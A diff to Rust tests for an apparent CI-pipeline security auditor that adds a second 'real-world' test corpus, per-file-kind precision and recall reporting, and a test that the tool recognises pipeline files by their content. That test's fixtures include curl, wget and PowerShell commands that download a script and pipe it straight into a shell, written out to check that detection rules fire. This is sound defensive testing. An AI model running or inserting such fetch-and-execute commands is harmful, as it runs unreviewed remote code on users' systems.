@@ -17,32 +17,44 @@ fn corpus() -> PathBuf {
     Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/audit-corpus")
 }
 
-fn rel(file: &str) -> String {
-    let root = audit::display_path(&corpus());
+/// Small files of our own that reproduce what was found in public repositories (rustup,
+/// nvm, Homebrew, ohmyzsh, pyenv, actions/runner-images, …), under their real kinds
+/// and names.
+fn realworld() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/realworld-corpus")
+}
+
+fn rel(root: &Path, file: &str) -> String {
+    let root = audit::display_path(root);
     file.strip_prefix(&root)
         .unwrap_or(file)
         .trim_start_matches('/')
         .to_string()
 }
 
-#[test]
-fn corpus_precision_and_recall_are_100_percent() {
+/// Audits `root` and compares with its expected.json: the files found, and every
+/// (file, line, rule); prints precision and recall per file kind and asserts 100%.
+fn check_corpus(root: &Path) {
     let expected: BTreeMap<String, Vec<(usize, String)>> =
-        serde_json::from_str(&std::fs::read_to_string(corpus().join("expected.json")).unwrap())
+        serde_json::from_str(&std::fs::read_to_string(root.join("expected.json")).unwrap())
             .unwrap();
     let started = Instant::now();
-    let result = audit::audit(&[corpus()], &[]);
+    let result = audit::audit(&[root.to_path_buf()], &[]);
     let elapsed = started.elapsed();
     assert!(result.errors.is_empty(), "{:?}", result.errors);
 
-    // Every pipeline file in the corpus is found, and nothing else (not-pipeline/ holds
-    // look-alikes: a YAML file outside .github/workflows, a README, a python script).
-    let scanned: BTreeSet<String> = result.files.iter().map(|(f, _)| rel(f)).collect();
+    // Every pipeline file is found, and nothing else (look-alikes are not pipeline files).
+    let scanned: BTreeSet<String> = result.files.iter().map(|(f, _)| rel(root, f)).collect();
     let listed: BTreeSet<String> = expected.keys().cloned().collect();
     assert_eq!(
         scanned, listed,
         "discovered files differ from expected.json"
     );
+    let kind_of: BTreeMap<String, &str> = result
+        .files
+        .iter()
+        .map(|(f, k)| (rel(root, f), k.as_str()))
+        .collect();
 
     let want: BTreeSet<(String, usize, String)> = expected
         .iter()
@@ -51,35 +63,58 @@ fn corpus_precision_and_recall_are_100_percent() {
     let got: BTreeSet<(String, usize, String)> = result
         .findings
         .iter()
-        .map(|f| (rel(&f.file), f.finding.line, f.finding.rule.to_string()))
+        .map(|f| {
+            (
+                rel(root, &f.file),
+                f.finding.line,
+                f.finding.rule.to_string(),
+            )
+        })
         .collect();
+    let ratio = |a: usize, b: usize| {
+        if b == 0 {
+            100.0
+        } else {
+            a as f64 * 100.0 / b as f64
+        }
+    };
+    let mut kinds: BTreeMap<&str, (usize, usize, usize)> = BTreeMap::new();
+    for k in kind_of.values() {
+        kinds.entry(k).or_default();
+    }
+    for f in &want {
+        let e = kinds.entry(kind_of[&f.0]).or_default();
+        e.1 += 1;
+        if got.contains(f) {
+            e.0 += 1;
+        }
+    }
+    for f in &got {
+        kinds.entry(kind_of[&f.0]).or_default().2 += 1;
+    }
+    let name = root.file_name().unwrap().to_string_lossy();
+    for (k, (tp, wanted, found)) in &kinds {
+        println!(
+            "{name}: {k:<20} recall {:5.1}% ({tp}/{wanted}), precision {:5.1}% ({tp}/{found})",
+            ratio(*tp, *wanted),
+            ratio(*tp, *found)
+        );
+    }
     let tp = want.intersection(&got).count();
     let fp: Vec<_> = got.difference(&want).collect();
     let fn_: Vec<_> = want.difference(&got).collect();
-    let precision = if got.is_empty() {
-        1.0
-    } else {
-        tp as f64 / got.len() as f64
-    };
-    let recall = if want.is_empty() {
-        1.0
-    } else {
-        tp as f64 / want.len() as f64
-    };
     let positives = expected.values().filter(|v| !v.is_empty()).count();
     println!(
-        "audit corpus: {} files ({} with findings, {} clean), {} lines, {} expected findings",
+        "{name}: {} files ({} with findings, {} clean), {} lines, {} expected findings; \
+         precision {:.1}% ({tp}/{}), recall {:.1}% ({tp}/{}), in {:?}",
         scanned.len(),
         positives,
         scanned.len() - positives,
         result.lines,
-        want.len()
-    );
-    println!(
-        "audit corpus: precision {:.1}% ({tp}/{}), recall {:.1}% ({tp}/{}), in {:?}",
-        precision * 100.0,
+        want.len(),
+        ratio(tp, got.len()),
         got.len(),
-        recall * 100.0,
+        ratio(tp, want.len()),
         want.len(),
         elapsed
     );
@@ -91,24 +126,61 @@ fn corpus_precision_and_recall_are_100_percent() {
     }
     assert!(
         fp.is_empty() && fn_.is_empty(),
-        "precision/recall below 100%"
+        "{name}: precision/recall below 100%"
     );
 }
 
 #[test]
-fn corpus_kinds_cover_every_kind() {
-    let result = audit::audit(&[corpus()], &[]);
+fn corpus_precision_and_recall_are_100_percent() {
+    check_corpus(&corpus());
+}
+
+#[test]
+fn realworld_corpus_precision_and_recall_per_kind_are_100_percent() {
+    check_corpus(&realworld());
+}
+
+#[test]
+fn corpora_cover_every_kind() {
+    let result = audit::audit(&[corpus(), realworld()], &[]);
     let kinds: BTreeSet<&str> = result.files.iter().map(|(_, k)| k.as_str()).collect();
-    for k in [
-        Kind::Shell,
-        Kind::Makefile,
-        Kind::Dockerfile,
-        Kind::Justfile,
-        Kind::GithubActions,
-        Kind::GitlabCi,
-    ] {
-        assert!(kinds.contains(k.as_str()), "no {k:?} file in the corpus");
+    for k in Kind::ALL {
+        assert!(kinds.contains(k.as_str()), "no {k:?} file in the corpora");
     }
+}
+
+#[test]
+fn a_file_named_on_the_command_line_is_known_by_its_content() {
+    let dir = tempfile::tempdir().unwrap();
+    let cases = [
+        (
+            "release-workflow.yml",
+            "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -fsSL https://x.test/i | sh\n",
+            "GUARD002",
+        ),
+        (
+            "ci-template.yml",
+            "stages: [build]\nbuild:\n  image: alpine\n  script:\n    - wget -qO- https://x.test/i | sh\n",
+            "GUARD002",
+        ),
+        ("install.txt", "@echo off\r\npowershell -c \"iwr https://x.test/i.ps1 | iex\"\r\n", "GUARD007"),
+    ];
+    for (name, text, rule) in cases {
+        let p = dir.path().join(name);
+        std::fs::write(&p, text).unwrap();
+        let out = execute(&args(&[&p]));
+        assert_eq!(out.code, 1, "{name}: {}", out.stderr);
+        assert!(out.stdout.contains(rule), "{name}: {}", out.stdout);
+    }
+    let p = dir.path().join("notes.txt");
+    std::fs::write(&p, "just some notes\n").unwrap();
+    let out = execute(&args(&[&p]));
+    assert_eq!(out.code, 2);
+    assert!(
+        out.stderr.contains("not a known pipeline file kind"),
+        "{}",
+        out.stderr
+    );
 }
 
 fn args(paths: &[&Path]) -> AuditArgs {
